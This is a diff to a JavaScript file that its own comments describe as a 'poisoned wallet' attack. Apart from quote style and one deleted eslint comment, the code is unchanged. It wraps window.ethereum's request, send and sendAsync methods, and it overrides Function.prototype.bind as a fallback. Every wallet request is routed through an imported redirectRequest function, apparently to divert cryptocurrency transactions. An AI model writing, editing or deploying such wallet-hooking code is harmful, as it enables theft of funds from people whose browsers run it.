@@ -1,11 +1,11 @@
 // Owns the poisoned wallet: hooks request, send and sendAsync of window.ethereum, or the layer above when that fails.
 
-import { redirectRequest } from "./transaction.js";
+import { redirectRequest } from './transaction.js';
 
 const POLL_EVERY_MS = 100;
 const POLL_TIMES = 50;
 const SETTLE_MS = 300;
-const METHODS = ["request", "send", "sendAsync"];
+const METHODS = ['request', 'send', 'sendAsync'];
 
 /** Polls for a wallet, as the original did, and hooks it shortly after it appears. */
 export function watchForWallet(state, attempts = 0) {
@@ -15,7 +15,7 @@ export function watchForWallet(state, attempts = 0) {
 }
 
 async function hook(provider, state) {
-  const accounts = await provider.request({ method: "eth_accounts" }).catch(() => []);
+  const accounts = await provider.request({ method: 'eth_accounts' }).catch(() => []);
   state.walletConnected = accounts.length > 0;
   const taken = METHODS.map((method) => replaceMethod(provider, method));
   if (!taken[0]) hookOneLayerUp(provider);
@@ -24,7 +24,7 @@ async function hook(provider, state) {
 /** @returns {boolean} whether the page now reaches the wrapper. */
 function replaceMethod(provider, method) {
   const original = provider[method];
-  if (typeof original !== "function") return false;
+  if (typeof original !== 'function') return false;
   const wrapper = function wrapper(request, ...rest) {
     return original.call(this ?? provider, redirectRequest(request), ...rest);
   };
@@ -42,7 +42,6 @@ function replaceMethod(provider, method) {
  */
 function hookOneLayerUp(provider) {
   const { bind } = Function.prototype;
-  // eslint-disable-next-line no-extend-native -- this is the attack
   Function.prototype.bind = function poisonedBind(self, ...args) {
     const bound = Reflect.apply(bind, this, [self, ...args]);
     return self === provider ? (request, ...rest) => bound(redirectRequest(request), ...rest) : bound;
